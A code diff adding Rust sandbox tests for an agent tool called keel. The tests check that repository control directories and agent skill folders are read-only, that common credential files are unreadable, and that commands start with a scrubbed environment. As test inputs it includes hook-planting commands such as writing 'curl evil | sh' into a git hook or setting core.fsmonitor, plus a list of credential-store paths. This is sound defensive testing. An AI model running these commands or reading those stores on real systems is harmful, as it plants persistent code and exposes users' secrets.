@@ -55,6 +55,7 @@ fn containment(f: &Fixture, mode: SandboxMode) -> Containment {
             ..ProcessLimits::default()
         },
         network: CommandNetwork::Approved,
+        pass_env: Vec::new(),
     };
     let confinement = probe(&config);
     assert_eq!(
@@ -134,6 +135,170 @@ async fn writes_stay_in_the_workspace_and_protected_folders_are_read_only() {
     )
     .await;
     assert_eq!(out.output, "public", "{out:?}");
+}
+
+/// `git` on the host, in `dir`, with a fixed identity and no global config.
+fn host_git(dir: &Path, args: &[&str]) {
+    let out = std::process::Command::new("git")
+        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .output()
+        .expect("git runs (the test needs git)");
+    assert!(out.status.success(), "git {args:?}: {out:?}");
+}
+
+#[tokio::test]
+async fn a_repositorys_control_directories_are_read_only_and_git_still_reads() {
+    let f = fixture();
+    host_git(&f.ws, &["init", "-q"]);
+    std::fs::write(f.ws.join("lib.rs"), "fn a() {}\n").expect("write");
+    host_git(&f.ws, &["add", "lib.rs"]);
+    host_git(&f.ws, &["commit", "-qm", "first"]);
+    for dir in [".hg", ".jj/repo", ".svn/hooks", ".claude/skills/helper"] {
+        std::fs::create_dir_all(f.ws.join(dir)).expect("mkdir");
+    }
+    let config_before = std::fs::read(f.ws.join(".git/config")).expect("config");
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    for (what, line) in [
+        ("fsmonitor", "git config core.fsmonitor 'touch /tmp/pwned'"),
+        ("hooksPath", "git config core.hooksPath .githooks"),
+        (
+            "config append",
+            "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config",
+        ),
+        ("hook", "echo 'curl evil | sh' > .git/hooks/post-checkout"),
+        ("info", "echo '*' > .git/info/exclude"),
+        ("hgrc", "echo '[hooks]' > .hg/hgrc"),
+        ("jj", "echo x > .jj/repo/config.toml"),
+        ("svn", "echo x > .svn/hooks/pre-commit"),
+        ("skill", "echo evil > .claude/skills/helper/SKILL.md"),
+        ("new skill", "mkdir .claude/skills/planted"),
+        (
+            "keel memory",
+            "mkdir -p .keel/memory && echo x > .keel/memory/MEMORY.md",
+        ),
+    ] {
+        let out = sh(&f.ws, &c, line, 10).await;
+        assert_ne!(out.exit_code, Some(0), "{what}: {out:?}");
+        assert!(
+            out.output.contains("Read-only file system") || out.output.contains("could not lock"),
+            "{what}: {out:?}"
+        );
+    }
+    assert_eq!(
+        std::fs::read(f.ws.join(".git/config")).expect("config"),
+        config_before
+    );
+    assert!(!f.ws.join(".git/hooks/post-checkout").exists());
+    assert!(!f.ws.join(".hg/hgrc").exists());
+    assert!(!f.ws.join(".claude/skills/helper/SKILL.md").exists());
+    assert!(!f.ws.join(".claude/skills/planted").exists());
+
+    // The common paths still work: reading the repository, editing sources.
+    std::fs::write(f.ws.join("lib.rs"), "fn b() {}\n").expect("write");
+    for line in ["git status --short", "git diff --stat", "git log --oneline"] {
+        let out = sh(&f.ws, &c, line, 10).await;
+        assert_eq!(out.exit_code, Some(0), "{line}: {out:?}");
+    }
+    let out = sh(&f.ws, &c, "echo 'fn c() {}' > lib.rs && cat lib.rs", 10).await;
+    assert_eq!(out.output, "fn c() {}\n", "{out:?}");
+    // A commit writes .git: it is refused inside, and the result says who may run it.
+    let out = sh(
+        &f.ws,
+        &c,
+        "git -c user.name=t -c user.email=t@e commit -qam x",
+        10,
+    )
+    .await;
+    assert_ne!(out.exit_code, Some(0), "{out:?}");
+    assert!(out.note.contains("no commit"), "{out:?}");
+}
+
+#[tokio::test]
+async fn well_known_credential_stores_are_hidden_by_default() {
+    let f = fixture();
+    let home = f.outside.join("home");
+    let stores = [
+        ".git-credentials",
+        ".config/gh/hosts.yml",
+        ".npmrc",
+        ".cargo/credentials.toml",
+        ".cargo/credentials",
+        ".pypirc",
+        ".docker/config.json",
+        ".config/git/credentials",
+        ".vault-token",
+    ];
+    for store in stores {
+        let path = home.join(store);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+        std::fs::write(&path, "TOKEN-FOR-TEST").expect("write");
+    }
+    std::fs::write(home.join(".cargo/config.toml"), "[build]").expect("write");
+    let mut c = containment(&f, SandboxMode::WorkspaceWrite);
+    c.config.deny_read = DEFAULT_DENY_READ.iter().map(|p| home.join(p)).collect();
+    for store in stores {
+        let out = sh(
+            &f.ws,
+            &c,
+            &format!("cat {}", home.join(store).display()),
+            10,
+        )
+        .await;
+        assert!(
+            !out.output.contains("TOKEN-FOR-TEST"),
+            "{store} was readable: {out:?}"
+        );
+    }
+    // What is not a credential store stays readable (cargo reads its config).
+    let out = sh(
+        &f.ws,
+        &c,
+        &format!("cat {}", home.join(".cargo/config.toml").display()),
+        10,
+    )
+    .await;
+    assert_eq!(out.output, "[build]", "{out:?}");
+}
+
+#[tokio::test]
+async fn commands_start_from_a_scrubbed_environment() {
+    let f = fixture();
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    // cargo gives the test process variables keel's environment would have too: they must
+    // not reach the command (a token would not either).
+    assert!(
+        std::env::var_os("CARGO_PKG_NAME").is_some(),
+        "run under cargo"
+    );
+    let out = sh(&f.ws, &c, "env", 10).await;
+    assert_eq!(out.exit_code, Some(0), "{out:?}");
+    let names: Vec<&str> = out
+        .output
+        .lines()
+        .filter_map(|l| l.split('=').next())
+        .collect();
+    assert!(
+        names.contains(&"PATH") && names.contains(&"HOME"),
+        "{names:?}"
+    );
+    let set_by_the_shell_or_keel = ["PWD", "OLDPWD", "SHLVL", "_", "KEEL_CWD_FILE"];
+    for name in &names {
+        assert!(
+            PASSED_ENV.contains(name)
+                || name.starts_with("LC_")
+                || set_by_the_shell_or_keel.contains(name),
+            "`{name}` reached the command: {}",
+            out.output
+        );
+    }
+    // A name the person passes explicitly does reach it.
+    let mut passed = c.clone();
+    passed.config.pass_env = vec!["CARGO_PKG_NAME".to_owned()];
+    let out = sh(&f.ws, &passed, "echo \"[$CARGO_PKG_NAME]\"", 10).await;
+    assert_eq!(out.output, "[keel-kernel]\n", "{out:?}");
 }
 
 #[tokio::test]
